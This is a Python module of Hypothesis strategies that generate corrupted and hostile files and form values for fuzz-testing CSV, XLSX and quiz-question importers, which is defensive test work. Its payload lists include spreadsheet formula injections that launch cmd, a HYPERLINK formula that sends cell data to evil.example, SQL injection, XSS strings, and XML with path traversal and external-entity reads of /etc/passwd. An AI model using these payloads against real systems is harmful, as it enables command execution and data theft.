"""Hypothesis strategies for hostile files and form values (imported by the tests; none here).

Each importer gets two kinds of input: arbitrary bytes, and files that look right at a
glance (the real headers, the format's own syntax) but are corrupted where people and
attackers corrupt them: cells that are formulas, NUL bytes, huge values, right-to-left
marks, rows with the wrong number of columns, mixed line ends, an encoding the reader
does not expect, an XLSX cut off half-way or with a broken sheet inside.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Sequence
from xml.sax.saxutils import escape, quoteattr

from hypothesis import strategies as st

ENCODINGS = ("utf-8", "utf-8-sig", "gbk", "gb18030", "utf-16", "utf-16-le", "utf-16-be", "latin-1")
NEWLINES = ("\r\n", "\n", "\r")
DELIMITERS = (",", "\t", ";", "|")

# What attackers and careless spreadsheets put in cells.
NASTY_CELLS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+SUM(1+1)*cmd|' /C notepad'!A1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\x00",
    "a\x00b",
    "\u202eexe.txt",  # right-to-left override
    "\u200f\u200e\u061c",
    "'; DROP TABLE users; --",
    '" OR 1=1 --',
    "<script>alert(1)</script>",
    "{{ 7*7 }}",
    "%(file)s %s %d",
    "😀👩‍👩‍👧‍👦",
    "\ufeff",
    "\r",
    '"',
    '"unterminated',
    "a,b;c\td",
    "NaN",
    "Infinity",
    "-0",
    "1e999",
    "9" * 400,
    "0.000000000000000001",
    "1,234.5",
    "９５",  # full-width digits
    "95％",
    "2026-13",
    "2026-02-30",
    "0000-00-00",
    "45292",  # an Excel serial date typed as text
    "2026年11月",
    "\u3000",  # ideographic space
    "　KF0001　",
)

nasty_text = st.sampled_from(NASTY_CELLS)


def _now_and_then(draw: st.DrawFn, one_in: int) -> bool:
    """True about once in ``one_in`` draws (hypothesis favours a range's ends, so the
    rare case is a value from its middle; shrinking then leads away from it)."""
    return draw(st.integers(0, one_in)) == one_in // 2


# Huge cells, one of them past the csv module's 128 KiB field limit.
huge_text = st.builds(
    lambda ch, n: ch * n,
    st.sampled_from(["x", "客", "\x00", "😀"]),
    st.sampled_from([5_000, 20_000, 140_000]),
)


@st.composite
def cells(draw: st.DrawFn, known: Sequence[str] = ()) -> str:
    """A cell's text: something plausible (``known`` values), something nasty, or anything;
    now and then a huge one."""
    if _now_and_then(draw, 40):
        return draw(huge_text)
    choices: list[st.SearchStrategy[str]] = [
        nasty_text,
        st.text(max_size=30),
        st.from_regex(r"-?\d{1,4}(\.\d{1,3})?%?", fullmatch=True),
        st.from_regex(r"20\d\d[-/.年]\d{1,2}月?", fullmatch=True),
    ]
    if known:
        choices.insert(0, st.sampled_from(list(known)))
    return draw(st.one_of(*choices))


@st.composite
def grids(
    draw: st.DrawFn, headers: Sequence[str], known: Sequence[str] = (), max_rows: int = 6
) -> list[list[str]]:
    """A header row (some of ``headers``, shuffled, maybe with junk) and rows of cells,
    some with too few or too many columns."""
    chosen = draw(st.lists(st.sampled_from(list(headers)), min_size=0, max_size=len(headers)))
    if draw(st.booleans()):
        chosen = list(dict.fromkeys(chosen))  # mostly without duplicates
    if _now_and_then(draw, 6):
        chosen.append(draw(st.one_of(nasty_text, st.text(max_size=10))))
    width = max(len(chosen), 1)
    rows = [chosen]
    for _index in range(draw(st.integers(0, max_rows))):
        size = draw(st.sampled_from([width, width, width, width - 1, width + 2, 0, 1]))
        rows.append(draw(st.lists(cells(known), min_size=max(size, 0), max_size=max(size, 0))))
    return rows


def _csv_cell(text: str, delimiter: str, draw: st.DrawFn) -> str:
    if any(c in text for c in (delimiter, '"', "\n", "\r")) and draw(st.booleans()):
        return '"' + text.replace('"', '""') + '"'
    return text  # unquoted even where it should be: broken CSV as people make it


def _encode(text: str, encoding: str) -> bytes:
    return text.encode(encoding, errors="replace")


@st.composite
def csv_from(draw: st.DrawFn, rows_of: st.SearchStrategy[list[list[str]]]) -> bytes:
    """The rows as CSV in a random encoding, delimiter and line ends, maybe damaged."""
    rows = draw(rows_of)
    delimiter = draw(st.sampled_from(DELIMITERS))
    lines = [delimiter.join(_csv_cell(c, delimiter, draw) for c in row) for row in rows]
    newline = draw(st.sampled_from(NEWLINES))
    if _now_and_then(draw, 4):  # mixed line ends within the file
        text = "".join(line + draw(st.sampled_from(NEWLINES)) for line in lines)
    else:
        text = newline.join(lines) + draw(st.sampled_from(["", newline]))
    data = _encode(text, draw(st.sampled_from(ENCODINGS)))
    return draw(_damaged(data))


def csv_files(headers: Sequence[str], known: Sequence[str] = ()) -> st.SearchStrategy[bytes]:
    """A CSV with (some of) the importer's headers and hostile cells."""
    return csv_from(grids(headers, known))


@st.composite
def _damaged(draw: st.DrawFn, data: bytes) -> bytes:
    """``data`` as it is, or cut off, or with a byte flipped or NULs inserted."""
    # Hypothesis favours the ends of a range; the middle values pick the damage, so that
    # most files arrive whole and a shrunk failure is an undamaged file where it can be.
    how = draw(st.integers(0, 20))
    if how == 9 and data:
        return data[: draw(st.integers(0, len(data) - 1))]
    if how == 10 and data:
        at = draw(st.integers(0, len(data) - 1))
        return data[:at] + bytes([data[at] ^ 0xFF]) + data[at + 1 :]
    if how == 11:
        at = draw(st.integers(0, len(data)))
        return data[:at] + b"\x00" * draw(st.integers(1, 4)) + data[at:]
    return data


# --- XLSX, written by hand so the sheet can hold what openpyxl would refuse to write -------

_PKG = "http://schemas.openxmlformats.org/package/2006"
_DOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_OFFICE = "application/vnd.openxmlformats-officedocument.spreadsheetml"
_CONTENT_TYPES = (
    f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{_PKG}/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    f'<Override PartName="/xl/workbook.xml" ContentType="{_OFFICE}.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    f'ContentType="{_OFFICE}.worksheet+xml"/></Types>'
)
_RELS = (
    f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_PKG}/relationships">'
    f'<Relationship Id="rId1" Type="{_DOC}/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
_WORKBOOK = (
    f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{_MAIN}" xmlns:r="{_DOC}">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_PKG}/relationships">'
    f'<Relationship Id="rId1" Type="{_DOC}/worksheet" Target="worksheets/sheet1.xml"/>'
    "</Relationships>"
)


def _column(index: int) -> str:
    name = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        name = chr(65 + rest) + name
    return name


def _cell_xml(ref: str, text: str, kind: str) -> str:
    if kind == "formula":  # as Excel saves one, without a cached value
        return f'<c r="{ref}"><f>{escape(text.lstrip("=+-@") or "1")}</f></c>'
    if kind == "number":  # a number cell, whatever the text is (a damaged file's may not be one)
        return f'<c r="{ref}"><v>{escape(text)}</v></c>'
    if kind in ("b", "e", "d"):  # a boolean, an error, an ISO date cell
        return f'<c r="{ref}" t="{kind}"><v>{escape(text)}</v></c>'
    if kind == "shared":  # a shared string the workbook does not have
        return f'<c r="{ref}" t="s"><v>{len(text)}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t>{escape(text)}</t></is></c>'


def _kind(draw: st.DrawFn, text: str) -> str:
    """How a cell is stored: numbers as numbers, text as text, and now and then otherwise."""
    if _now_and_then(draw, 60):
        return draw(st.sampled_from(["formula", "number", "b", "e", "d", "shared"]))
    try:
        float(text)
    except ValueError:
        return "text"
    return "number" if text.strip() == text and text else "text"


def xlsx_files(headers: Sequence[str], known: Sequence[str] = ()) -> st.SearchStrategy[bytes]:
    """An XLSX whose sheet has (some of) the importer's headers and hostile cells."""
    return xlsx_from(grids(headers, known))


@st.composite
def xlsx_from(draw: st.DrawFn, rows_of: st.SearchStrategy[list[list[str]]]) -> bytes:
    """The rows as an XLSX sheet, cells of every type (formulas too); sometimes with a
    missing part, malformed sheet XML, or the zip cut off."""
    rows = draw(rows_of)
    body = []
    for number, row in enumerate(rows, start=1):
        cells_xml = "".join(
            _cell_xml(f"{_column(i)}{number}", text, _kind(draw, text) if number > 1 else "text")
            for i, text in enumerate(row)
        )
        body.append(f'<row r="{number}">{cells_xml}</row>')
    sheet = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        f'<worksheet xmlns="{_MAIN}">'
        f"<sheetData>{''.join(body)}</sheetData></worksheet>"
    )
    if _now_and_then(draw, 7):  # malformed sheet XML
        sheet = sheet[: draw(st.integers(0, len(sheet)))]
    parts = {
        "[Content_Types].xml": _CONTENT_TYPES,
        "_rels/.rels": _RELS,
        "xl/workbook.xml": _WORKBOOK,
        "xl/_rels/workbook.xml.rels": _WORKBOOK_RELS,
        "xl/worksheets/sheet1.xml": sheet,
    }
    if _now_and_then(draw, 12):  # a part missing
        parts.pop(draw(st.sampled_from(sorted(parts))))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            # Some sheets carry characters XML 1.0 forbids (NUL): readers must refuse, not crash.
            archive.writestr(name, text.encode("utf-8", errors="replace"))
    data = buffer.getvalue()
    if _now_and_then(draw, 10):  # truncated zip
        return data[: draw(st.integers(0, len(data) - 1))]
    return draw(_damaged(data))


@st.composite
def spoiled(draw: st.DrawFn, rows_of: st.SearchStrategy[list[list[str]]]) -> list[list[str]]:
    """Good rows, or good rows with one cell (header included) replaced by a hostile one."""
    rows = [list(row) for row in draw(rows_of)]
    if rows and draw(st.booleans()):
        row = draw(st.integers(0, len(rows) - 1))
        if rows[row]:
            rows[row][draw(st.integers(0, len(rows[row]) - 1))] = draw(cells())
    return rows


def arbitrary_bytes() -> st.SearchStrategy[bytes]:
    """Anything: random bytes, random text in a random encoding, or a magic number and junk."""
    magic = st.sampled_from(
        [
            b"PK\x03\x04",
            b"\xd0\xcf\x11\xe0",
            b"%PDF-1.7\n",
            b"\x89PNG\r\n\x1a\n",
            b"\xff\xd8\xff",
            b"\xef\xbb\xbf",
            b"\xff\xfe",
            b"\xfe\xff",
            b"<?xml version='1.0'?>",
            b"<quiz>",
            b"GIF89a",
        ]
    )
    return st.one_of(
        st.binary(max_size=600),
        st.builds(_encode, st.text(max_size=300), st.sampled_from(ENCODINGS)),
        st.builds(lambda m, rest: m + rest, magic, st.binary(max_size=300)),
    )


def table_files(headers: Sequence[str], known: Sequence[str] = ()) -> st.SearchStrategy[bytes]:
    """Every kind of input a CSV/XLSX importer is given."""
    return st.one_of(arbitrary_bytes(), csv_files(headers, known), xlsx_files(headers, known))


# --- question files -------------------------------------------------------------------------

GIFT_PIECES = (
    "::",
    "::名称::",
    "{",
    "}",
    "=",
    "~",
    "#",
    "->",
    "%50%",
    "%-100%",
    "%abc%",
    "TRUE",
    "FALSE",
    "T",
    "F",
    "{T}",
    "{F}",
    "{#",
    "#1:2",
    "#1..3",
    "=%100%",
    "~%50%",
    "\\",
    "\\{",
    "\\}",
    "\\=",
    "\\~",
    "\\#",
    "\\:",
    "\\n",
    "$CATEGORY: ",
    "$CATEGORY: $course$/top/a//b",
    "// comment",
    "[html]",
    "[markdown]",
    "[moodle]",
    "[plain]",
    "####",
    "\n",
    "\n\n",
    "\r\n",
    " ",
    "客户",
    "$",
    "@@PLUGINFILE@@/x.png",
    "<img src=x onerror=alert(1)>",
    "\x00",
    "\u202e",
    "1e999",
    "nan",
)


@st.composite
def gift_files(draw: st.DrawFn) -> bytes:
    """GIFT built from its own tokens in any order, plus nasty text, in some encoding."""
    pieces = draw(
        st.lists(
            st.one_of(st.sampled_from(GIFT_PIECES), nasty_text, st.text(max_size=8)), max_size=40
        )
    )
    text = "".join(pieces)
    if draw(st.booleans()):  # a well-formed start so the parser goes deep
        text = "::q1:: 题干 {=对 ~错 #反馈}\n\n" + text
    encoding = draw(st.sampled_from(("utf-8", "utf-8", "utf-8-sig", *ENCODINGS)))
    return draw(_damaged(_encode(text, encoding)))


AIKEN_PIECES = (
    "问题？",
    "A. 甲",
    "B. 乙",
    "C) 丙",
    "D、丁",
    "ANSWER: A",
    "ANSWER: Z",
    "answer：b",
    "ANSWER:",
    "Z. 末",
    "A.",
    "",
    " ",
    "\t",
    "1e999",
)


@st.composite
def aiken_files(draw: st.DrawFn) -> bytes:
    lines = draw(
        st.lists(
            st.one_of(st.sampled_from(AIKEN_PIECES), nasty_text, st.text(max_size=10)), max_size=25
        )
    )
    if draw(st.booleans()):
        lines.append("ANSWER: B")  # so the content is told to be Aiken
    newline = draw(st.sampled_from(NEWLINES))
    encoding = draw(st.sampled_from(("utf-8", "utf-8", *ENCODINGS)))
    return draw(_damaged(_encode(newline.join(lines), encoding)))


XML_TAGS = (
    "question",
    "name",
    "text",
    "questiontext",
    "answer",
    "feedback",
    "generalfeedback",
    "defaultgrade",
    "penalty",
    "hidden",
    "single",
    "shuffleanswers",
    "answernumbering",
    "tolerance",
    "subquestion",
    "category",
    "file",
    "tags",
    "tag",
    "idnumber",
    "unit",
    "correctfeedback",
    "usecase",
    "responseformat",
    "graderinfo",
)
XML_TYPES = (
    "multichoice",
    "truefalse",
    "shortanswer",
    "numerical",
    "matching",
    "essay",
    "description",
    "category",
    "ordering",
    "cloze",
    "calculated",
    "ddwtos",
    "gapselect",
    "random",
    "",
)

FRACTIONS = ("100", "0", "50", "-100", "33.33333", "abc", "1e999", "nan", "")


@st.composite
def _xml_element(draw: st.DrawFn, depth: int) -> str:
    tag = draw(st.sampled_from(XML_TAGS))
    attrs = ""
    if tag == "question":
        attrs = f" type={quoteattr(draw(st.sampled_from(XML_TYPES)))}"
    elif tag == "answer":
        fraction = draw(st.one_of(st.sampled_from(FRACTIONS), st.text(max_size=4)))
        attrs = f" fraction={quoteattr(fraction)}"
    elif tag == "file":
        name = draw(st.sampled_from(["a.png", "../../etc/passwd", "", "x.svg"]))
        attrs = f' name={quoteattr(name)} encoding="base64"'
    elif tag == "text" and draw(st.booleans()):
        attrs = ' format="html"'
    children = ""
    if depth > 0:
        children = "".join(draw(st.lists(_xml_element(depth - 1), max_size=3)))
    content = draw(st.one_of(cells(), st.sampled_from(["iVBORw0KGgo=", "!!!", "100", "true", "1"])))
    inner = escape(content) if draw(st.integers(0, 9)) else f"<![CDATA[{content}]]>"
    return f"<{tag}{attrs}>{inner}{children}</{tag}>"


@st.composite
def moodle_xml_files(draw: st.DrawFn) -> bytes:
    """Moodle XML made of its own elements nested any which way, sometimes malformed."""
    questions = "".join(draw(st.lists(_xml_element(3).map(lambda x: x), max_size=4)))
    if draw(st.booleans()):
        kind = draw(st.sampled_from(XML_TYPES))
        questions = (
            f'<question type="{kind}"><name><text>n</text></name>'
            f"<questiontext><text>t</text></questiontext>"
            f'<answer fraction="100"><text>是</text></answer>'
            f'<answer fraction="0"><text>否</text></answer></question>' + questions
        )
    prologue = draw(
        st.sampled_from(
            [
                '<?xml version="1.0" encoding="UTF-8"?>',
                "",
                '<?xml version="1.0" encoding="GBK"?>',
                '<!DOCTYPE quiz [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
                '<!DOCTYPE quiz SYSTEM "file:///etc/passwd">',
            ]
        )
    )
    text = f"{prologue}<quiz>{questions}</quiz>"
    if _now_and_then(draw, 6):
        text = text[: draw(st.integers(0, len(text)))]
    encoding = draw(st.sampled_from(("utf-8", "utf-8", "utf-16", "gbk")))
    return draw(_damaged(_encode(text, encoding)))


QUESTION_SHEET_HEADERS = (
    "题型",
    "分类",
    "名称",
    "题干",
    "选项A",
    "选项B",
    "选项C",
    "选项D",
    "答案",
    "分值",
    "解析",
    "标签",
    "难度",
    "type",
    "answer",
)
QUESTION_SHEET_CELLS = (
    "单选",
    "多选",
    "判断",
    "填空",
    "数值",
    "配对",
    "排序",
    "问答",
    "说明",
    "A",
    "B",
    "A,C",
    "对",
    "30±5",
    "25~35",
    "a=b",
    "干扰项=c",
    "易",
    "难",
    "入职认证/投诉处理",
    "1",
    "0",
    "-1",
    "1e999",
)


def question_files() -> st.SearchStrategy[tuple[str, bytes]]:
    """(file name, bytes) of every question format, and names that lie about the content."""
    names = st.sampled_from(
        ["bank.gift", "bank.xml", "bank.txt", "bank.xlsx", "bank.csv", "bank", "银行.GIFT", "x.png"]
    )
    return st.tuples(
        names,
        st.one_of(
            arbitrary_bytes(),
            gift_files(),
            aiken_files(),
            moodle_xml_files(),
            xlsx_files(QUESTION_SHEET_HEADERS, QUESTION_SHEET_CELLS),
            csv_files(QUESTION_SHEET_HEADERS, QUESTION_SHEET_CELLS),
        ),
    )


# --- form values ----------------------------------------------------------------------------

form_values = st.one_of(
    nasty_text,
    st.text(max_size=40),
    st.sampled_from(
        ["", " ", "0", "-1", "1", "99999999999999999999", "2026-02-30", "1.5", "y", "on"]
    ),
    st.just("\u202e" * 3 + "x" * 20_000),
    st.just("客" * 20_000),
)
